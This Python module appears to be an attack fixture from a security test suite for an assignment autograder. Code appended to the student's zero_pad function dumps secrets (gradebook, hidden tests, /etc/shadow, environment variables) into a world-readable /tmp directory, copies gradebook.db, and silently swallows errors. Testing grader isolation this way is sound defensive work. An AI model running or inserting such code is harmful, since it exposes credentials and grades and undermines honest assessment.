"""Copy the course's secrets into /tmp, where any other user of the machine can pick them up.

All eight functions are honest. The zero_pad cell writes what it collects (gradebook,
hidden tests, /etc/shadow, environment, ...) into ``/tmp/cnnattack_leak_tmp/``, world
readable, and copies the gradebook file itself beside it.
Without protection: the secrets lie on the grading machine for anyone to read.
"""
from ._loot import LOOT

EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": LOOT + '''

import json as _json
import shutil as _shutil

try:
    _os.makedirs("/tmp/cnnattack_leak_tmp", exist_ok=True)
    _os.chmod("/tmp/cnnattack_leak_tmp", 0o777)
    with open("/tmp/cnnattack_leak_tmp/loot.json", "w") as _handle:
        _json.dump(_loot(), _handle, default=str)
    _shutil.copy("../../../gradebook.db", "/tmp/cnnattack_leak_tmp/gradebook.db")
except Exception:
    pass
'''}
